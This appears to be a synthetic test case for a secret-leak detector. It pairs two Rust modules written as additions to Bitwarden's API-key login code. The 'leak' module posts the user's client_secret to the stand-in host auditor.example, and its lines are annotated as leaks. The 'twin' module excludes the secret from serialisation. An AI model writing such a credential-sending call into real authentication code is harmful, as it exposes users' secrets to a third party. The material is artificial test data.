//! Reports logins with keys to an auditor.
//!
//! file: bitwarden-core/src/auth/login/api_key.rs
//! after: let response = request_api_identity_tokens(client, input).await?;
//! kind: share
//! depth: 1
//! through: `#[serde(skip_serializing)]` (in the twin), `#[serde(borrow)]`-like references, a tuple struct
//! round: 4

mod leak {
    fn here() {
        key_audit::report(client, input).await;
    }

    use serde::Serialize;

    use super::ApiKeyLoginRequest;
    use crate::Client;

    #[derive(Serialize)]
    struct Used<'a> {
        scope: &'static str,
        with: Key<'a>,
    }

    #[derive(Serialize)]
    struct Key<'a> {
        strength: usize,
        secret: &'a str,
    }

    pub async fn report(client: &Client, input: &ApiKeyLoginRequest) {
        let with = Key { strength: 4 * input.client_id.len(), secret: &input.client_secret };
        let used = Used { scope: "api", with };
        let request = client.internal.get_http_client().post("https://auditor.example/keys").json(&used); // leak: PII201 or PII204
        if request.send().await.is_err() { // leak: PII201 or PII204
            tracing::warn!("the auditor was not told of a key for {}", used.scope);
        }
    }
}

mod twin {
    fn here() {
        key_audit::report(client, input).await;
    }

    use serde::Serialize;

    use super::ApiKeyLoginRequest;
    use crate::Client;

    #[derive(Serialize)]
    struct Used<'a> {
        scope: &'static str,
        with: Key<'a>,
    }

    #[derive(Serialize)]
    struct Key<'a> {
        strength: usize,
        #[serde(skip_serializing)]
        #[expect(dead_code)]
        secret: &'a str,
    }

    pub async fn report(client: &Client, input: &ApiKeyLoginRequest) {
        let with = Key { strength: 4 * input.client_id.len(), secret: &input.client_secret };
        let used = Used { scope: "api", with };
        let request = client.internal.get_http_client().post("https://auditor.example/keys").json(&used);
        if request.send().await.is_err() {
            tracing::warn!("the auditor was not told of a key for {}", used.scope);
        }
    }
}
